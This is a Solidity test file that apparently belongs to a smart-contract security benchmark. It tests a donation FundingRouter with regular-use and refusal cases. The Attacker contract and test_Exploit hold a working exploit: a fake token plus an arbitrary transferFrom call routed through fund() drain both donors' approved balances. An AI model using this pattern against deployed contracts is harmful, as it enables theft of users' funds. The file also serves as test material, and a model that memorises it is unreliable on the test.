// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./FundingRouter.sol";

// assay-canary-3f7e2b3e-0c2c-4720-9beb-c0fa5b054c4d

interface Vm {
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 10_000e18);
    }
}

/// A supplier that sells laptops for thirty, and stickers for one.
contract Supplier {
    Dollar internal dollar;
    mapping(bytes32 => uint256) public ordered;

    constructor(Dollar dollar_) {
        dollar = dollar_;
    }

    function laptop(bytes32 deliverTo) external {
        dollar.transferFrom(msg.sender, address(this), 30e18);
        ordered[deliverTo] += 1;
    }

    function sticker() external {
        dollar.transferFrom(msg.sender, address(this), 1e18);
    }
}

/// Says that everything was moved.
contract Voucher {
    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

/// Funds requests of its own, in a token of its own, at the donors' token.
contract Attacker {
    FundingRouter internal router;
    Dollar internal dollar;

    constructor(FundingRouter router_, Dollar dollar_) {
        (router, dollar) = (router_, dollar_);
    }

    function run(address[2] calldata donors) external {
        router.createCampaign("own");
        for (uint256 i = 0; i < 2; ++i) {
            uint256 id = router.addRequest("own", IERC20(address(new Voucher())), 1, "tablet");
            uint256 amount = dollar.balanceOf(donors[i]);
            bytes memory order = abi.encodeCall(dollar.transferFrom, (donors[i], address(this), amount));
            try router.fund(id, 1, address(dollar), order) {} catch {}
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant LIV = address(0x71);
    address internal constant MAX = address(0x72);

    Dollar internal dollar;
    FundingRouter internal router;
    Supplier internal supplier;
    Attacker internal outsider;

    function setUp() public {
        dollar = new Dollar();
        router = new FundingRouter();
        supplier = new Supplier(dollar);
        router.setStatus(address(supplier), SupplierRegistry.Status.Approved);
        dollar.transfer(LIV, 900e18);
        dollar.transfer(MAX, 600e18);
        // both donors have allowed the router to take what a request will cost, as wallets do it
        vm.prank(LIV);
        dollar.approve(address(router), type(uint256).max);
        vm.prank(MAX);
        dollar.approve(address(router), type(uint256).max);
        outsider = new Attacker(router, dollar);
    }

    function test_Regular() public {
        router.createCampaign("school");
        uint256 first = router.addRequest("school", dollar, 30e18, "laptop");
        uint256 second = router.addRequest("school", dollar, 20e18, "tablet");
        bytes memory order = abi.encodeCall(supplier.laptop, ("mill lane"));
        vm.prank(LIV);
        router.fund(first, 50e18, address(supplier), order);
        require(dollar.balanceOf(LIV) == 870e18 && supplier.ordered("mill lane") == 1, "the rest came back");
        vm.prank(MAX);
        router.fund(second, 30e18, address(supplier), order);
        require(dollar.balanceOf(MAX) == 570e18 && router.fundedRequests("school") == 2, "to the last coin");
        require(dollar.allowance(address(router), address(supplier)) == 0, "nothing stays approved");
        router.cancelRequest(router.addRequest("school", dollar, 1, "desk"));
        (, , , bool closed, address donor, uint256 spent, ) = router.requests(first);
        require(closed && donor == LIV && spent == 30e18, "recorded");
        router.transferOwnership(LIV);
        vm.prank(LIV);
        router.renounceOwnership();
    }

    /// What the two donors have.
    function donorsHold() public view returns (uint256) {
        return dollar.balanceOf(LIV) + dollar.balanceOf(MAX);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes memory why = "Ownable: caller is not the owner";
        refuses(LIV, why);
        router.setStatus(address(supplier), SupplierRegistry.Status.Suspended);
        refuses(LIV, why);
        router.transferOwnership(LIV);
        refuses(LIV, why);
        router.renounceOwnership();
        router.createCampaign("school");
        why = abi.encodeWithSelector(IFundingRouter.NotOrganiser.selector, bytes32("school"), LIV);
        refuses(LIV, why);
        router.addRequest("school", dollar, 1, "piano");
        uint256 id = router.addRequest("school", dollar, 1, "laptop");
        refuses(LIV, why);
        router.cancelRequest(id);
    }

    function test_RefusesRequests() public {
        router.createCampaign("school");
        refuses(LIV, abi.encodeWithSelector(IFundingRouter.CampaignExists.selector, bytes32("school")));
        router.createCampaign("school");
        vm.expectRevert(abi.encodeWithSelector(IFundingRouter.ZeroMinimum.selector, bytes32("school")));
        router.addRequest("school", dollar, 0, "laptop");
        uint256 id = router.addRequest("school", dollar, 1, "laptop");
        router.cancelRequest(id);
        vm.expectRevert(abi.encodeWithSelector(IFundingRouter.RequestClosed.selector, id));
        router.cancelRequest(id);
        refuses(LIV, abi.encodeWithSelector(IFundingRouter.RequestClosed.selector, id));
        router.fund(id, 50e18, address(supplier), abi.encodeCall(supplier.laptop, ("mill lane")));
    }

    function test_RefusesOrders() public {
        router.createCampaign("school");
        uint256 id = router.addRequest("school", dollar, 30e18, "laptop");
        bytes memory order = abi.encodeCall(supplier.laptop, ("mill lane"));
        refuses(LIV, abi.encodeWithSelector(IFundingRouter.InvalidOrder.selector, address(supplier), 3));
        router.fund(id, 50e18, address(supplier), hex"010203");
        bytes memory own = abi.encodeCall(router.createCampaign, ("theirs"));
        router.setStatus(address(router), SupplierRegistry.Status.Approved);
        refuses(LIV, abi.encodeWithSelector(IFundingRouter.InvalidOrder.selector, address(router), own.length));
        router.fund(id, 50e18, address(router), own);
        bytes memory reason = abi.encodeWithSignature("Error(string)", "ERC20: insufficient allowance");
        refuses(LIV, abi.encodeWithSelector(IFundingRouter.OrderFailed.selector, address(supplier), reason));
        router.fund(id, 20e18, address(supplier), order);
        refuses(LIV, abi.encodeWithSelector(IFundingRouter.SpentTooLittle.selector, 1e18, 30e18));
        router.fund(id, 50e18, address(supplier), abi.encodeCall(supplier.sticker, ()));
        router.setStatus(address(supplier), SupplierRegistry.Status.Suspended);
        refuses(LIV, abi.encodeWithSelector(IFundingRouter.SupplierRefused.selector, address(supplier)));
        router.fund(id, 50e18, address(supplier), order);
    }

    function exploit() public {
        outsider.run([LIV, MAX]);
    }

    function test_Exploit() public {
        exploit();
        require(donorsHold() == 0 && dollar.balanceOf(address(outsider)) == 1_500e18, "donors keep their coins");
    }

    function target() public view returns (address) {
        return address(router);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
